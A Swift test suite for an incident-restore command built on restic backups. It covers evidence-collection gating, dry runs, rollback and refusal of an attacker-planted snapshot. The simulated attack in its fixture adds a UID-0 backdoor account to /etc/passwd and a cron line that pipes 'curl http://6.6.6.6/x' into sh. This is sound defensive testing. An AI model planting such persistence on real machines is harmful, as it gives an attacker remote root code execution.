import AtttTestSupport
import Foundation
import Testing

/// Điều 11 khoản 2 điểm a, Bước 3, end to end: a real restic repository made by the backup job's
/// commands, an attacked tree, `attt incident restore` refused before the evidence is collected, its
/// dry run listing exactly the attack, the restore equal to `restic dump`, and `attt rollback`
/// bringing the attacked tree back.
///
/// The repository is in its own directory under the tree's /media (a removable disk, as BAK-001 judges
/// a target): a separate file system is not needed, since the restore only reads it.
@Suite(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/restic") && geteuid() == 0,
                "needs Debian's restic (scripts/deps.sh), and root: restic restores the files' owners only as root"))
struct IncidentRestoreTests {
    let host: FixtureHost
    let env: [String: String]
    let snapshot: String
    static let incident = "6F9619FF-8B86-4D01-B42D-00C04FC964FF"
    static let password = "Mat-khau-kho-sao-luu-1"

    init() throws {
        host = try FixtureHost("debian12-desktop")
        try host.write("/etc/restic/password", Self.password + "\n")
        try host.write("/etc/restic/env", "# sourced by /usr/local/sbin/attt-backup\nexport RESTIC_REPOSITORY=/media/usb/restic\nRESTIC_PASSWORD_FILE=\"/etc/restic/password\"\n")
        try FileManager.default.createDirectory(at: host.url("/media/usb"), withIntermediateDirectories: true)
        env = ["RESTIC_REPOSITORY": host.url("/media/usb/restic").path, "RESTIC_PASSWORD_FILE": host.url("/etc/restic/password").path, "RESTIC_CACHE_DIR": host.url("/media/usb/cache").path]
        let initialised = try Self.restic(["init"], env: env)
        try #require(initialised.status == 0, "\(initialised.stderr)")
        // The job's command, run in the tree: restic names a relative path as given, so the snapshot
        // holds /etc/…, as on a PC. It ran ten minutes ago, before the incident's first step (the
        // restore never takes a copy made after that).
        let backup = try AtttBinary.run(executable: URL(fileURLWithPath: "/bin/sh"), [
            "-c", "cd \"$0\" && exec restic backup --host \"$(cat etc/hostname)\" --json --time \"$(date -d @$1 '+%Y-%m-%d %H:%M:%S')\" etc", host.root.path, String(Int(Date().timeIntervalSince1970) - 600),
        ], environment: env)
        try #require(backup.status == 0, "\(backup.stderr)")
        let summary = try #require(backup.stdout.split(separator: "\n").last { $0.contains("\"summary\"") })
        let decoded = try JSONSerialization.jsonObject(with: Data(summary.utf8)) as? [String: Any]
        snapshot = try #require(decoded?["snapshot_id"] as? String)
        // What attt-backup writes after the run (docs/backup-status.md), with the snapshot it made.
        try host.write("/var/lib/attt/backup/last.json", """
            {"time": "\(Self.now(-595))", "exitCode": 0, "tool": "restic", "target": "/media/usb/restic", "paths": ["/etc"], "snapshot": "\(snapshot)"}
            """)
    }

    static func restic(_ arguments: [String], env: [String: String]) throws -> AtttBinary.Output {
        try AtttBinary.run(executable: URL(fileURLWithPath: "/usr/bin/restic"), arguments, environment: env)
    }

    static func now(_ offset: TimeInterval = 0) -> String {
        let f = ISO8601DateFormatter()
        return f.string(from: Date().addingTimeInterval(offset))
    }

    /// The tree without attt's state and the restore areas.
    func tree() throws -> [String: String] {
        try snapshotTree(host.root).filter { !$0.key.hasPrefix("var/lib/attt") && !$0.key.hasPrefix("var/log/attt") && !$0.key.hasPrefix(".attt-restore-") }
    }

    func attack() throws {
        try host.append("/etc/passwd", "sysadm:x:0:0::/root:/bin/bash\n")
        try host.write("/etc/sysctl.conf", "net.ipv4.ip_forward = 1\n")
        try host.remove("/etc/shells")
        try host.remove("/etc/hostname")
        try host.write("/etc/cron.d/evil", "* * * * * root curl -s http://6.6.6.6/x | sh\n")
        try host.write("/etc/machine-id", "00000000000000000000000000000000\n")
    }

    /// The evidence was collected for the incident (what `attt incident collect` records).
    func recordCollection() throws {
        let step = #"{"actor":"root","at":"\#(Self.now(-60))","id":"\#(UUID().uuidString)","incident":"\#(Self.incident)","kind":"collect","outcome":"done","source":"terminal"}"#
        try host.write("/var/lib/attt/incidents/\(Self.incident)/steps.jsonl", step + "\n")
        try host.write("/var/lib/attt/incidents/current", Self.incident)
    }

    var restore: [String] { ["incident", "restore", "--root", host.root.path, "--env-file", "/etc/restic/env"] }

    /// PAM accepting one password for any account, for the officer's sign-in.
    func stagedPam() throws -> String {
        let pam = host.root.appendingPathComponent("staged-pam")
        try FileManager.default.createDirectory(at: pam, withIntermediateDirectories: true)
        let checker = pam.appendingPathComponent("check")
        try "#!/bin/sh\n[ \"$(tr -d '\\000')\" = \"Dung-mat-khau-1\" ]\n".write(to: checker, atomically: true, encoding: .utf8)
        chmod(checker.path, 0o755)
        try "auth required pam_exec.so expose_authtok quiet \(checker.path)\naccount required pam_permit.so\n".write(to: pam.appendingPathComponent("attt"), atomically: true, encoding: .utf8)
        return pam.path
    }

    @Test func refusedUntilTheEvidenceIsCollected() throws {
        try attack()
        let before = try tree()
        let refused = try AtttBinary.run(restore + ["--dry-run"])
        #expect(refused.status == 1 && refused.stderr.contains("chưa thu thập đầy đủ chứng cứ"), "\(refused.stdout)\(refused.stderr)")
        #expect(try tree() == before)
        // With a reason it goes ahead (a dry run here), and nothing is staged on the disk afterwards.
        let skipped = try AtttBinary.run(restore + ["--dry-run", "--skip-collection", "máy chủ cần chạy lại ngay"])
        #expect(skipped.status == 0, "\(skipped.stdout)\(skipped.stderr)")
        #expect(try tree() == before)
    }

    @Test func dryRunListsExactlyTheAttack() throws {
        try attack()
        try recordCollection()
        let before = try tree()
        let dry = try AtttBinary.run(restore)
        #expect(dry.status == 0, "\(dry.stdout)\(dry.stderr)")
        #expect(dry.stdout.contains("Thay đổi: 2; bị xoá: 2; không có trong bản sao lưu: 1 chuyển sang chỗ giữ"), "\(dry.stdout)")
        #expect(dry.stdout.contains("Chạy thử"))
        #expect(dry.stdout.contains("Bản sao lưu: restic \(snapshot), tạo lúc ") && dry.stdout.contains("Lý do chọn bản này: bản do tác vụ sao lưu ghi trong last.json"), "\(dry.stdout)")
        let listFile = try #require(dry.stdout.split(separator: "\n").first { $0.hasPrefix("Danh sách đầy đủ: ") }?.dropFirst("Danh sách đầy đủ: ".count))
        let lines = try host.read(String(listFile)).split(separator: "\n").map { $0.split(separator: "\t").prefix(3).joined(separator: " ") }
        #expect(Set(lines) == [
            "changed apply /etc/passwd", "changed apply /etc/sysctl.conf", "missing apply /etc/hostname", "missing apply /etc/shells",
            "not-in-backup apply /etc/cron.d/evil", "skipped - /etc/machine-id",
        ], "\(lines)")
        #expect(try tree() == before)
    }

    /// A rehearsal (`--dry-run --skip-collection "diễn tập"`) records itself in restore-check.json, and
    /// VN-TD-INC-001 passes with it. The env file and scopes come from the unit's tailoring here, not
    /// from options; values that cannot be right stop the command naming the file (exit 2).
    @Test func aRehearsalIsRecordedAndTheUnitsSettingsAreUsed() throws {
        func inc001() throws -> String? {
            let out = try AtttBinary.run(["check", "--root", host.root.path, "--control", "VN-TD-INC-001", "--format", "json"])
            let report = try JSONSerialization.jsonObject(with: Data(out.stdout.utf8)) as? [String: Any]
            return ((report?["results"] as? [[String: Any]])?.first)?["status"] as? String
        }
        #expect(try inc001() == "fail")
        let tailoring = "/etc/attt/tailoring.yaml"
        let rehearse = ["incident", "restore", "--root", host.root.path, "--dry-run", "--skip-collection", "diễn tập"]
        try host.write(tailoring, "tailoring: attt.tailoring.v1\ncontrols:\n  VN-TD-INC-001:\n    restore_scopes: [system]\n    backup_env_file: /etc/restic/env\n")
        let dry = try AtttBinary.run(rehearse)
        #expect(dry.status == 0 && dry.stdout.contains("Chạy thử"), "\(dry.stdout)\(dry.stderr)")
        // The snapshot as restic lists it (the full id; restic 0.14's backup summary gives the short one).
        let record = try JSONSerialization.jsonObject(with: Data(try host.read("/var/lib/attt/backup/restore-check.json").utf8)) as? [String: Any]
        #expect(record?["tool"] as? String == "restic" && record?["verified"] as? Bool == true && (record?["snapshot"] as? String)?.hasPrefix(snapshot) == true, "\(String(describing: record)) \(snapshot)")
        // One change: the tailoring file itself, written after the backup, would be moved aside.
        #expect(record?["scopes"] as? [String] == ["system"] && record?["changes"] as? Int == 1, "\(String(describing: record))")
        #expect(try inc001() == "pass")

        try host.write(tailoring, "tailoring: attt.tailoring.v1\ncontrols:\n  VN-TD-INC-001:\n    restore_scopes: [everything]\n")
        let scope = try AtttBinary.run(rehearse)
        #expect(scope.status == 2 && scope.stderr.contains(host.url(tailoring).path) && scope.stderr.contains("restore_scopes: everything"), "\(scope.stderr)")
        try host.write(tailoring, "tailoring: attt.tailoring.v1\ncontrols:\n  VN-TD-INC-001:\n    backup_env_file: /etc/restic/khong-co\n")
        let env = try AtttBinary.run(rehearse)
        #expect(env.status == 2 && env.stderr.contains("backup_env_file") && env.stderr.contains("/etc/restic/khong-co"), "\(env.stderr)")
    }

    @Test func restoreEqualsTheBackupAndRollbackBringsTheAttackBack() throws {
        try attack()
        try recordCollection()
        let attacked = try tree()
        let pam = try stagedPam()
        let applied = try AtttBinary.run(restore + ["--apply", "--officer-group", "root", "--pam-confdir", pam], input: "root\nDung-mat-khau-1\n")
        #expect(applied.status == 0, "\(applied.stdout)\(applied.stderr)")
        #expect(applied.stdout.contains("Khởi động lại máy để nạp cấu hình đã khôi phục"))

        // Each restored file is what restic itself dumps from the snapshot.
        for path in ["/etc/passwd", "/etc/sysctl.conf", "/etc/shells", "/etc/hostname"] {
            let dumped = try Self.restic(["dump", snapshot, path], env: env)
            let restored = try Data(contentsOf: host.url(path))
            #expect(dumped.status == 0 && dumped.data == restored, "\(path)")
        }
        #expect(!FileManager.default.fileExists(atPath: host.url("/etc/cron.d/evil").path))
        #expect(try host.read("/etc/machine-id") == "00000000000000000000000000000000\n")

        // The attacked versions are kept, and the step is recorded for the incident's biên bản.
        let areas = try FileManager.default.contentsOfDirectory(atPath: host.root.path).filter { $0.hasPrefix(".attt-restore-") }
        #expect(areas.count == 1, "\(areas): the stage is removed, the kept area stays")
        let keptDir = host.root.appendingPathComponent(areas[0]).appendingPathComponent("kept")
        let kept = try FileManager.default.contentsOfDirectory(atPath: keptDir.path).map { try String(contentsOf: keptDir.appendingPathComponent($0), encoding: .utf8) }
        #expect(kept.contains { $0.contains("sysadm:x:0:0") } && kept.contains { $0.contains("6.6.6.6") } && kept.contains("net.ipv4.ip_forward = 1\n"))
        let steps = try host.read("/var/lib/attt/incidents/\(Self.incident)/steps.jsonl")
        #expect(steps.contains("\"kind\":\"restore\"") && steps.contains("\"outcome\":\"done\""), "\(steps)")
        #expect(try host.read("/var/log/attt/remediation.log").contains("\"event\":\"incident-restore\""))

        let rollback = try AtttBinary.run(["rollback", "--root", host.root.path])
        #expect(rollback.status == 0, "\(rollback.stdout)\(rollback.stderr)")
        #expect(try tree().filter { !$0.key.hasPrefix("staged-pam") } == attacked.filter { !$0.key.hasPrefix("staged-pam") })
    }

    /// A failed backup run is not restored from, whatever the repository holds.
    @Test func aFailedBackupIsRefused() throws {
        try recordCollection()
        try host.write("/var/lib/attt/backup/last.json", #"{"time": "\#(Self.now())", "exitCode": 3, "tool": "restic", "target": "/media/usb/restic"}"#)
        let refused = try AtttBinary.run(restore + ["--dry-run"])
        #expect(refused.status == 1 && refused.stderr.contains("mã lỗi 3"), "\(refused.stderr)")
    }

    /// The latest copy was made after the attack may have started: refused unless a snapshot is named.
    @Test func aCopyNewerThanTheSuspectedStartIsRefused() throws {
        try recordCollection()
        let refused = try AtttBinary.run(restore + ["--dry-run", "--since", Self.now(-3600)])
        #expect(refused.status == 1 && refused.stderr.contains("sau thời điểm nghi bị tấn công"), "\(refused.stderr)")
        let chosen = try AtttBinary.run(restore + ["--dry-run", "--since", Self.now(-3600), "--snapshot", snapshot])
        #expect(chosen.status == 0, "\(chosen.stderr)")
    }

    /// After the officer has what he needs, the attacked files kept by the restore are removed; the
    /// step is recorded, and the restore can no longer be rolled back.
    @Test func purgeKeptRemovesTheReplacedFilesAndEndsTheRollback() throws {
        try attack()
        try recordCollection()
        let pam = try stagedPam()
        let signIn = ["--officer-group", "root", "--pam-confdir", pam]
        let applied = try AtttBinary.run(restore + ["--apply"] + signIn, input: "root\nDung-mat-khau-1\n")
        #expect(applied.status == 0, "\(applied.stdout)\(applied.stderr)")
        let line = try #require(applied.stdout.split(separator: "\n").first { $0.hasPrefix("Giao dịch ") })
        let tx = String(line.split(separator: " ")[2])
        let purge = ["incident", "purge-kept", "--root", host.root.path, tx]

        let dry = try AtttBinary.run(purge + ["--dry-run"])
        #expect(dry.status == 0 && dry.stdout.contains("Sẽ xoá 3 tệp bị thay thế") && dry.stdout.contains("/.attt-restore-\(tx)/kept"), "\(dry.stdout)\(dry.stderr)")
        #expect(FileManager.default.fileExists(atPath: host.url("/.attt-restore-\(tx)/kept").path))

        let purged = try AtttBinary.run(purge + ["--apply"] + signIn, input: "root\nDung-mat-khau-1\n")
        #expect(purged.status == 0, "\(purged.stdout)\(purged.stderr)")
        #expect(!FileManager.default.fileExists(atPath: host.url("/.attt-restore-\(tx)").path))
        let steps = try host.read("/var/lib/attt/incidents/\(Self.incident)/steps.jsonl")
        #expect(steps.contains("\"kind\":\"note\"") && steps.contains("\"transaction\":\"\(tx)\"") && steps.contains("không thể hoàn tác nữa"), "\(steps)")

        let rollback = try AtttBinary.run(["rollback", "--root", host.root.path, tx])
        #expect(rollback.status != 0 && rollback.stderr.contains("purge-kept"), "\(rollback.stdout)\(rollback.stderr)")
        let again = try AtttBinary.run(purge + ["--dry-run"])
        #expect(again.status == 1 && again.stderr.contains("đã được xoá"), "\(again.stderr)")
        let bad = try AtttBinary.run(["incident", "purge-kept", "--root", host.root.path, "../../etc"])
        #expect(bad.status == 2, "\(bad.stderr)")
    }

    /// The fixture's backup job (`/usr/local/sbin/attt-backup`, the example docs/backup-status.md
    /// names) run in the tree as its service would, with this machine's programs bound in read-only:
    /// last.json names the snapshot restic made, and the restore takes that one, not a copy an
    /// attacker adds afterwards with the job's credentials.
    @Test func theBackupJobRecordsItsSnapshotAndALaterOneIsNotTaken() throws {
        let job = try FixtureHost("debian12-hardened")
        let tree = job.root.path
        try job.write("/etc/restic/password", Self.password + "\n")
        try job.write("/etc/restic/env", "export RESTIC_REPOSITORY=/media/usb/restic\nexport RESTIC_PASSWORD_FILE=/etc/restic/password\nexport RESTIC_CACHE_DIR=/var/cache/restic\n")
        for directory in ["media/usb", "tmp", "home/an", "srv", "usr/lib64", "var/cache"] {
            try FileManager.default.createDirectory(atPath: tree + "/" + directory, withIntermediateDirectories: true)
        }
        chmod(tree + "/tmp", 0o1777)
        for link in ["lib", "lib64"] where !FileManager.default.fileExists(atPath: tree + "/" + link) {
            try FileManager.default.createSymbolicLink(atPath: tree + "/" + link, withDestinationPath: "usr/" + link)
        }
        let jobEnv = ["RESTIC_REPOSITORY": tree + "/media/usb/restic", "RESTIC_PASSWORD_FILE": tree + "/etc/restic/password", "RESTIC_CACHE_DIR": tree + "/var/cache/restic"]
        let initialised = try Self.restic(["init"], env: jobEnv)
        try #require(initialised.status == 0, "\(initialised.stderr)")
        func chrooted(_ command: String) throws -> AtttBinary.Output {
            // Its own host name too, as the PC booted from the tree would have it (restic records it).
            try AtttBinary.run(executable: URL(fileURLWithPath: "/usr/bin/unshare"), ["--mount", "--uts", "--fork", "/bin/sh", "-c", """
                for d in usr/bin usr/sbin usr/lib usr/lib64; do mount --bind "/$d" "$0/$d" && mount -o remount,bind,ro "$0/$d" || exit 1; done
                hostname -F "$0/etc/hostname" || exit 1
                exec chroot "$0" /bin/sh -c "$1"
                """, tree, command])
        }
        let ran = try chrooted("/usr/local/sbin/attt-backup")
        #expect(ran.status == 0, "\(ran.stdout)\(ran.stderr)")
        let record = try job.read("/var/lib/attt/backup/last.json")
        let fields = try #require(try JSONSerialization.jsonObject(with: Data(record.utf8)) as? [String: Any])
        let recorded = try #require(fields["snapshot"] as? String, "\(record)")
        #expect(fields["exitCode"] as? Int == 0 && recorded.count == 8, "\(record)")
        let listed = try Self.restic(["snapshots", "--json"], env: jobEnv)
        #expect(listed.stdout.contains("\"short_id\":\"\(recorded)\""), "\(listed.stdout)")

        // The attacker, root on the PC, backs the attacked /etc up with the job's own credentials.
        Thread.sleep(forTimeInterval: 2.2)
        try job.append("/etc/passwd", "sysadm:x:0:0::/root:/bin/bash\n")
        let planted = try chrooted(". /etc/restic/env && exec restic backup /etc")
        #expect(planted.status == 0, "\(planted.stderr)")

        let dry = ["incident", "restore", "--root", tree, "--env-file", "/etc/restic/env", "--dry-run", "--skip-collection", "thử nghiệm"]
        let taken = try AtttBinary.run(dry)
        #expect(taken.status == 0 && taken.stdout.contains("Bản sao lưu: restic \(recorded),"), "\(taken.stdout)\(taken.stderr)")
        #expect(taken.stdout.contains("/etc/passwd  thay đổi (size"), "\(taken.stdout)")
        // Without the record's snapshot (an older job), the newest copy made by the record's time.
        try job.replace("/var/lib/attt/backup/last.json", ", \"snapshot\": \"\(recorded)\"", with: "")
        let newest = try AtttBinary.run(dry)
        #expect(newest.status == 0 && newest.stdout.contains("Bản sao lưu: restic \(recorded),") && newest.stdout.contains("bỏ qua 1 bản mới hơn"), "\(newest.stdout)\(newest.stderr)")
    }
}
